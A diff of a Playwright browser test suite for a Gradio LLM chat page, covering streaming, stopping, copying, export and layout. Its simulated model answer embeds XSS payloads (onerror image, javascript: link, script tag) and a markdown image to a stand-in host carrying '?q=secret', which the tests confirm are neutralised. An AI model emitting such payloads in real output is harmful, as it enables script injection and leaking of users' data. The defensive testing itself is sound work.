@@ -1,73 +1,84 @@
-"""The chat page in a real browser: what a visitor types, sees and stops."""
+"""The chat page in a real browser: what a visitor types, sees, copies and stops."""
 
-import time
-from pathlib import Path
+import json
+import re
 
 import pytest
 from inference_fixtures import COLOURS, EXTRA, NUMBERS, PLACES
-from test_chat import counting
 
-gradio = pytest.importorskip("gradio", reason="the page needs gradio: pip install gradio")
+pytest.importorskip("gradio", reason="the page needs gradio: pip install gradio")
 pytest.importorskip("playwright", reason="browser tests need playwright: pip install playwright")
-from playwright.sync_api import expect, sync_playwright  # noqa: E402
+from page_fixtures import PATIENT, Listening
+from playwright.sync_api import expect
 
-from llm_finetuning.inference import page  # noqa: E402
-from llm_finetuning.inference.generation import SamplingParameters  # noqa: E402
-from llm_finetuning.inference.page import loading  # noqa: E402
-
-CHROMIUM = [Path("/usr/bin/chromium"), Path("/usr/bin/chromium-browser"), Path("/usr/bin/google-chrome")]
-FLAGS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
+from llm_finetuning.inference import page
+from llm_finetuning.inference.page import loading
 
 pytestmark = pytest.mark.browser
 
+TYPED = "\tdef f(a, b):\n\t\treturn a < b && c\n\n  * not a list\n${1 + 1} {{value}} <i>x</i> &lt;\n\n\n"
+ANSWER = """# Heading
 
-@pytest.fixture(scope="module")
-def browser():
-    path = next((path for path in CHROMIUM if path.exists()), None)
-    if path is None:
-        pytest.skip("no Chromium here (apt-get install chromium): the page is not tested in a browser")
-    with sync_playwright() as playwright:
-        opened = playwright.chromium.launch(executable_path=str(path), args=FLAGS)
-        yield opened
-        opened.close()
+Remote ![a picture](http://192.0.2.1/leak.png?q=secret) and <img src="http://192.0.2.1/b.png" onerror="hacked=1">.
+[script](javascript:hacked=2) [![in a link](http://192.0.2.1/c.png)](http://192.0.2.1/)
+
+~~~python
+if a < b && c:
+\treturn "<b>"
+~~~
+
+    indented & code
+
+| a | b |
+|---|---|
+| 1 | `x < y` |
+
+one
+two
+</div></div><script>hacked=3</script> ${hacked=4} {{hacked}}
+"""
 
 
 @pytest.fixture(scope="module")
 def slow(chat):
     """The chat at a speed at which a visitor sees the words come and can stop them."""
-    return counting(chat, delay=0.15)
+    return Listening(chat, delay=0.1)
 
 
 @pytest.fixture(scope="module")
-def address(slow):
-    blocks = page.build(
-        loading.in_background(lambda: slow, ""), "Tiny Phi", ["Count."], SamplingParameters(max_new_tokens=80)
-    )
-    yield page.launch(blocks, wait=False)
-    blocks.close()
+def slow_address(slow, serve):
+    return serve(slow)
 
 
-@pytest.fixture(params=[400, 1280])
-def visitor(request, browser, address):
-    """A page in a window of that width; anything it asks from elsewhere, and any error in it, fails the test."""
-    window = browser.new_page(viewport={"width": request.param, "height": 800})
-    foreign, errors = [], []
-    window.on("request", lambda r: foreign.append(r.url) if "://127.0.0.1" not in r.url else None)
-    window.on("pageerror", lambda error: errors.append(str(error)))
-    window.goto(address)
-    expect(window.locator("#line textarea")).to_be_visible(timeout=30_000)
-    yield window
+@pytest.fixture(scope="module")
+def quick(chat):
+    return Listening(chat)
+
+
+@pytest.fixture(scope="module")
+def quick_address(quick, serve):
+    return serve(quick)
+
+
+@pytest.fixture
+def visit(browser):
+    """visit(address, width) → a page; what it asks from elsewhere, and any error in it, fails the test."""
+    windows, foreign, errors = [], [], []
+
+    def open_page(address: str, width: int = 1280, **options):
+        window = browser.new_page(viewport={"width": width, "height": 800}, **options)
+        window.on("request", lambda r: foreign.append(r.url) if "://127.0.0.1" not in r.url else None)
+        window.on("pageerror", lambda error: errors.append(str(error)))
+        window.goto(address)
+        expect(window.locator("#line textarea")).to_be_visible(timeout=PATIENT)
+        windows.append(window)
+        return window
+
+    yield open_page
+    for window in windows:
+        window.close()
     assert [url for url in foreign if not url.startswith(("data:", "blob:"))] == []
     assert errors == []
-    window.close()
 
 
 def say(window, text: str) -> None:
@@ -79,80 +90,172 @@ def answer(window, number: int = -1):
     return window.locator("#conversation [data-testid=bot]").nth(number)
 
 
-def wait_until_idle(window) -> None:
-    expect(window.locator("#status")).to_contain_text("tokens/s", timeout=30_000)
-    expect(window.locator("[data-testid=submit-button]")).to_be_visible()
+def question(window, number: int = -1):
+    return window.locator("#conversation [data-testid=user]").nth(number)
 
 
-def test_an_answer_streams_in_and_a_follow_up_uses_the_history(visitor):
-    say(visitor, "Count.")
+def wait_until_idle(window, status: str | re.Pattern = "tokens/s") -> None:
+    expect(window.locator("#status")).to_contain_text(status, timeout=PATIENT)
+    expect(window.get_by_role("button", name="Send")).to_be_visible(timeout=PATIENT)
+
+
+def test_an_answer_streams_in_and_a_follow_up_uses_the_history(visit, slow_address, quick_address):
+    window = visit(slow_address)
+    say(window, "Count.")
     seen = set()
-    while "sixteen" not in (text := answer(visitor).inner_text(timeout=20_000)):
+    while "sixteen" not in (text := answer(window).inner_text(timeout=PATIENT)):
         seen.add(text.strip())
-        time.sleep(0.1)
+        window.wait_for_timeout(50)
     assert len([part for part in seen if part and NUMBERS.startswith(part)]) > 3
-    wait_until_idle(visitor)
-    assert answer(visitor).inner_text().strip() == NUMBERS
+    wait_until_idle(window)
+    assert answer(window).inner_text().strip() == NUMBERS
     for name in ("bram", "petra"):
-        visitor.reload()
-        say(visitor, f"Which colour does {name} like?")
-        expect(answer(visitor)).to_have_text(f"{name} likes {COLOURS[name]}.", timeout=20_000)
-        wait_until_idle(visitor)
-        say(visitor, "And where is the house?")
-        expect(answer(visitor)).to_have_text(f"In {PLACES[name]}.", timeout=20_000)
-        wait_until_idle(visitor)
+        window = visit(quick_address)
+        say(window, f"Which colour does {name} like?")
+        expect(answer(window)).to_have_text(f"{name} likes {COLOURS[name]}.", timeout=PATIENT)
+        wait_until_idle(window)
+        say(window, "And where is the house?")
+        expect(answer(window)).to_have_text(f"In {PLACES[name]}.", timeout=PATIENT)
 
 
-def test_stop_ends_the_answer_and_the_work(visitor, slow):
-    say(visitor, "Count.")
-    expect(answer(visitor)).to_contain_text("two", timeout=20_000)
-    visitor.locator("[data-testid=stop-button], .stop-button").first.click()
-    expect(visitor.locator("[data-testid=submit-button]")).to_be_visible()
-    time.sleep(0.5)
-    said, steps = answer(visitor).inner_text(), slow.engine.steps
-    time.sleep(1)
-    assert slow.engine.steps == steps
-    assert answer(visitor).inner_text() == said and "sixteen" not in said
-    say(visitor, "Which colour does mira like?")
-    expect(visitor.locator("#status")).to_contain_text("tokens/s", timeout=20_000)
-    assert visitor.locator("#conversation [data-testid=bot]").count() == 2
+def stop_one(window, slow) -> None:
+    """Asks, stops in the middle, and looks at what is visible: text and status, and nothing over them."""
+    say(window, "Count.")
+    expect(answer(window)).to_contain_text("two", timeout=PATIENT)
+    window.get_by_role("button", name="Stop", exact=True).click()
+    wait_until_idle(window, re.compile(r"^\s*\d+ tokens, stopped\s*$"))
+    said, steps = answer(window).inner_text(), slow.engine.steps
+    assert NUMBERS.startswith(said) and said != NUMBERS
+    window.wait_for_timeout(500)
+    assert slow.engine.steps <= steps + 1  # the token that was being computed
+    assert answer(window).inner_text() == said
+    for place in (answer(window), window.locator("#status"), question(window)):
+        on_top = "e => { const b = e.getBoundingClientRect();"
+        on_top += "return e.contains(document.elementFromPoint(b.x + b.width / 2, b.y + b.height / 2)); }"
+        assert place.evaluate(on_top)
+    assert window.get_by_text("Error", exact=True).count() == 0
+    window.get_by_role("button", name="New conversation").click()
+    expect(answer(window, 0)).to_have_count(0, timeout=PATIENT)
 
 
-def test_html_is_shown_as_text(visitor):
-    say(visitor, "<b>bold</b>?")
-    expect(answer(visitor)).to_have_text(EXTRA["<b>bold</b>?"], timeout=20_000)
-    wait_until_idle(visitor)
-    assert visitor.locator("#conversation [data-testid=user]").inner_text().strip() == "<b>bold</b>?"
-    assert visitor.evaluate("window.hacked") is None
-    assert visitor.locator("#conversation b").count() == 0
+def test_stop_ends_the_work_and_keeps_text_and_status(visit, slow_address, slow):
+    window = visit(slow_address)
+    for _ in range(3):
+        stop_one(window, slow)
+    say(window, "Which colour does mira like?")
+    expect(answer(window)).to_have_text("mira likes red.", timeout=PATIENT)
 
 
-def test_retry_answers_again_and_edit_asks_anew(visitor):
-    say(visitor, "Which colour does mira like?")
-    expect(answer(visitor)).to_have_text("mira likes red.", timeout=20_000)
-    wait_until_idle(visitor)
-    visitor.get_by_label("Retry").click()
-    expect(visitor.locator("#status")).not_to_contain_text("tokens/s")
-    wait_until_idle(visitor)
-    expect(answer(visitor)).to_have_text("mira likes red.")
-    assert visitor.locator("#conversation [data-testid=bot]").count() == 1
-    visitor.get_by_label("Edit").click()
-    visitor.locator("#conversation textarea").fill("Which colour does bram like?")
-    visitor.get_by_label("Submit").first.click()
-    expect(answer(visitor)).to_have_text("bram likes blue.", timeout=20_000)
-    wait_until_idle(visitor)
-    assert visitor.locator("#conversation [data-testid=user]").count() == 1
+@pytest.mark.more
+def test_stop_fifty_times_on_a_busy_machine(visit, slow_address, slow, busy_machine):
+    window = visit(slow_address)
+    for _ in range(50):
+        stop_one(window, slow)
 
 
-def test_an_example_is_asked_by_a_click(visitor):
-    visitor.locator("#conversation .example").click()
-    expect(answer(visitor)).to_contain_text("one two", timeout=20_000)
-    wait_until_idle(visitor)
+def test_the_model_gets_what_was_typed_over_all_turns(visit, quick, quick_address):
+    window = visit(quick_address)
+    say(window, TYPED)
+    wait_until_idle(window)
+    said = quick.streams[-1].text
+    assert quick.asked[-1] == [{"role": "user", "content": TYPED}]
+    assert question(window).text_content() == TYPED
+    say(window, "  Count.\n\n")
+    expect(question(window, 1)).to_be_visible(timeout=PATIENT)
+    wait_until_idle(window)
+    assert [m["content"] for m in quick.asked[-1]] == [TYPED, said, "  Count.\n\n"]
+    window.get_by_label("Edit").first.click()
+    area = window.locator("#conversation textarea")
+    assert area.input_value() == TYPED
+    area.fill(TYPED + "!")
+    window.get_by_role("button", name="Submit").click()
+    expect(question(window, 1)).to_have_count(0, timeout=PATIENT)
+    wait_until_idle(window)
+    assert quick.asked[-1] == [{"role": "user", "content": TYPED + "!"}]
+    assert window.evaluate("window.hacked") is None
+
+
+def test_copy_gives_the_source(visit, quick_address):
+    window = visit(quick_address)
+    window.evaluate("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
+    say(window, TYPED)
+    wait_until_idle(window)
+    window.get_by_label("Copy").first.click()
+    assert window.evaluate("window.copied") == TYPED
+    window.get_by_role("button", name="New conversation").click()
+    expect(question(window, 0)).to_have_count(0, timeout=PATIENT)
+    say(window, "<b>bold</b>?")
+    expect(answer(window)).to_have_text(EXTRA["<b>bold</b>?"], timeout=PATIENT)
+    wait_until_idle(window)
+    window.get_by_label("Copy").last.click()
+    assert window.evaluate("window.copied") == EXTRA["<b>bold</b>?"]
+    assert window.evaluate("window.hacked") is None and window.locator("#conversation b").count() == 0
+
+
+@pytest.mark.parametrize("width", [390, 1280])
+def test_an_answer_is_markdown_without_markup_or_requests(visit, chat, serve, width):
+    window = visit(serve(Listening(chat, says=ANSWER)), width)
+    say(window, "Count.")
+    wait_until_idle(window)
+    shown = answer(window)
+    assert shown.locator("pre").all_text_contents() == ['if a < b && c:\n\treturn "<b>"\n', "indented & code\n"]
+    assert shown.locator("h1, td code").all_text_contents() == ["Heading", "x < y"]
+    assert shown.locator("img, script, b, i").count() == 0 and window.evaluate("window.hacked") is None
+    links = shown.locator("a").evaluate_all("all => all.map(a => [a.textContent, a.getAttribute('href')])")
+    assert ["a picture", "http://192.0.2.1/leak.png?q=secret"] in links
+    assert all(address.startswith("http://") for _, address in links)
+    assert window.evaluate("document.documentElement.scrollWidth") <= width
+
+
+def test_the_policy_of_the_page_forbids_requests_to_elsewhere(browser, quick_address):
+    window = browser.new_page()
+    window.goto(quick_address)
+    blocked = """async (address) => {
+      const broken = new Promise((done) => addEventListener('securitypolicyviolation', (e) => done(e.blockedURI)));
+      const image = document.body.appendChild(new Image());
+      image.src = address;
+      return await broken + ' ' + await fetch(address).then(() => 'sent', () => 'refused');
+    }"""
+    assert window.evaluate(blocked, "http://localhost:9/x.png") == "http://localhost:9/x.png refused"
+    window.close()
+
+
+def test_a_conversation_survives_a_reload_and_is_exported(visit, quick_address):
+    window = visit(quick_address, accept_downloads=True)
+    say(window, TYPED)
+    wait_until_idle(window)
+    said = answer(window).inner_text()
+    window.reload()
+    expect(question(window)).to_have_text(TYPED, timeout=PATIENT)
+    assert question(window).text_content() == TYPED and answer(window).inner_text() == said
+    with window.expect_download() as waiting:
+        window.get_by_role("button", name="Export").click()
+    exported = json.loads(waiting.value.path().read_text(encoding="utf-8"))["messages"]
+    assert [m["role"] for m in exported] == ["user", "assistant"] and exported[0]["content"] == TYPED
+
+
+def test_retry_answers_again_and_undo_gives_the_question_back(visit, quick, quick_address):
+    window = visit(quick_address)
+    window.get_by_role("button", name="Count.").click()  # an example
+    expect(answer(window)).to_have_text(NUMBERS, timeout=PATIENT)
+    wait_until_idle(window)
+    say(window, "Really?")
+    wait_until_idle(window)
+    expect(answer(window, 1)).to_be_visible(timeout=PATIENT)
+    before = len(quick.asked)
+    window.get_by_label("Retry").click()
+    expect(window.locator("#status")).not_to_contain_text("tokens/s", timeout=PATIENT)
+    wait_until_idle(window)
+    assert quick.asked[before:] == [quick.asked[before - 1]]
+    assert answer(window).count() == 1 and answer(window, 2).count() == 0
+    window.get_by_label("Undo").click()
+    expect(window.locator("#line textarea")).to_have_value("Really?", timeout=PATIENT)
+    expect(question(window, 1)).to_have_count(0, timeout=PATIENT)
 
 
 def slide(visitor, name: str, value: str) -> None:
     """Types a slider's value; Gradio drops what is typed while the opened settings are still being drawn."""
-    for _ in range(20):
+    for _ in range(40):
         visitor.get_by_label(f"number input for {name}").fill(value)
         visitor.keyboard.press("Tab")
         if visitor.get_by_label(f"range slider for {name}").input_value() == value:
@@ -161,55 +264,72 @@ def slide(visitor, name: str, value: str) -> None:
     raise AssertionError(f"{name} did not take {value}")
 
 
-def test_the_longest_answer_can_be_set(visitor):
-    visitor.get_by_text("Settings").click()
-    slide(visitor, "Longest answer, in tokens", "3")
-    say(visitor, "Count.")
-    expect(visitor.locator("#status")).to_contain_text("3 tokens in", timeout=20_000)
-    assert answer(visitor).inner_text() == "one two thre"
-
-
-def test_what_is_empty_or_too_long_is_not_sent(visitor):
-    say(visitor, "   ")
-    expect(visitor.get_by_text("Type a question first.")).to_be_visible()
-    assert visitor.locator("#conversation [data-testid=user]").count() == 0
-    visitor.locator("#line textarea").fill("x" * 5_000)
-    assert len(visitor.locator("#line textarea").input_value()) <= page.MAX_CHARACTERS
-
-
-def test_nothing_hangs_over_the_edge(visitor):
-    say(visitor, "Which colour does mira like?")
-    wait_until_idle(visitor)
-    width = visitor.viewport_size["width"]
-    assert visitor.evaluate("document.documentElement.scrollWidth") <= width
-    for place in ("#title", "#conversation", "#line"):
-        box = visitor.locator(place).first.bounding_box()
-        assert box["x"] >= 0 and box["x"] + box["width"] <= width
-
-
-def test_the_page_is_there_while_the_model_loads(browser, chat):
-    waiting = loading.Loading("Loading tiny …")
-    blocks = page.build(waiting, "Tiny Phi", [], SamplingParameters(max_new_tokens=80))
-    window = browser.new_page()
-    window.goto(page.launch(blocks, wait=False))
-    expect(window.locator("#status")).to_contain_text("Loading tiny", timeout=20_000)
+def test_the_longest_answer_can_be_set(visit, quick_address):
+    window = visit(quick_address)
+    window.get_by_text("Settings").click()
+    slide(window, "Longest answer, in tokens", "3")
     say(window, "Count.")
-    expect(window.locator("#status")).to_contain_text("still loading", timeout=20_000)
-    waiting.run(lambda: chat)
-    expect(answer(window)).to_have_text(NUMBERS, timeout=20_000)
-    window.close()
-    blocks.close()
+    expect(window.locator("#status")).to_contain_text("3 tokens in", timeout=PATIENT)
+    assert answer(window).inner_text().strip() == "one two thre"
 
 
-def test_a_model_that_cannot_be_loaded_is_said(browser, tmp_path):
+def test_what_is_empty_or_too_long_is_refused_with_its_text_kept(visit, quick_address):
+    window = visit(quick_address)
+    say(window, "   ")
+    expect(window.get_by_text("Type a question first.")).to_be_visible(timeout=PATIENT)
+    pasted = "x" * (page.MAX_CHARACTERS + 1_000)
+    say(window, pasted)
+    expect(window.locator("#status")).to_contain_text("5,000 characters are too many", timeout=PATIENT)
+    assert window.locator("#line textarea").input_value() == pasted
+    assert question(window).count() == 0
+
+
+@pytest.mark.parametrize("width", [390, 1280])
+def test_nothing_hangs_over_the_edge_and_all_has_a_name(visit, quick_address, width):
+    window = visit(quick_address, width)
+    say(window, "Which colour does mira like? " + "m" * 100)
+    wait_until_idle(window)
+    assert window.evaluate("document.documentElement.scrollWidth") <= width
+    for place in ("#title", "#conversation", "#line"):
+        box = window.locator(place).first.bounding_box()
+        assert box["x"] >= 0 and box["x"] + box["width"] <= width
+    assert window.get_by_role("textbox", name="Message").is_visible()
+    nameless = window.get_by_role("button").evaluate_all(
+        "all => all.filter(b => !(b.getAttribute('aria-label') || b.textContent).trim()).map(b => b.outerHTML)"
+    )
+    assert nameless == []
+
+
+def test_who_waits_is_told_the_place_in_the_queue(visit, slow_address):
+    first, second = visit(slow_address), visit(slow_address)
+    say(first, "Count.")
+    expect(answer(first)).to_contain_text("one", timeout=PATIENT)
+    say(second, "Which colour does bram like?")
+    expect(second.locator("#status")).to_contain_text("Number 1 in the queue", timeout=PATIENT)
+    first.get_by_role("button", name="Stop", exact=True).click()
+    expect(answer(second)).to_have_text("bram likes blue.", timeout=PATIENT)
+
+
+def test_the_page_is_there_while_the_model_loads_and_says_what_it_is(visit, serve, chat):
+    waiting = loading.Loading("Loading tiny …")
+    window = visit(serve(None, waiting=waiting))
+    expect(window.locator("#status")).to_contain_text("Loading tiny", timeout=PATIENT)
+    say(window, "Count.")
+    expect(window.locator("#status")).to_contain_text("still loading", timeout=PATIENT)
+    sample = Listening(chat)
+    sample.is_sample = True
+    waiting.run(lambda: sample)
+    expect(answer(window)).to_have_text(NUMBERS, timeout=PATIENT)
+    expect(window.get_by_text("tiny sample model")).to_be_visible(timeout=PATIENT)
+
+
+def test_a_model_that_cannot_be_loaded_is_said(visit, serve, tmp_path):
     from llm_finetuning.inference.chat import Chat
 
     failed = loading.Loading()
     with pytest.raises(FileNotFoundError):
         failed.run(lambda: Chat.load(tmp_path / "nowhere"))
-    blocks = page.build(failed, "Tiny Phi", [], SamplingParameters())
-    window = browser.new_page()
-    window.goto(page.launch(blocks, wait=False))
-    expect(window.locator("#status")).to_contain_text("nowhere is not there", timeout=20_000)
-    window.close()
-    blocks.close()
+    window = visit(serve(None, waiting=failed))
+    expect(window.locator("#status")).to_contain_text("nowhere is not there", timeout=PATIENT)
+    say(window, "Count.")
+    expect(window.locator("#status")).to_contain_text("nowhere is not there", timeout=PATIENT)
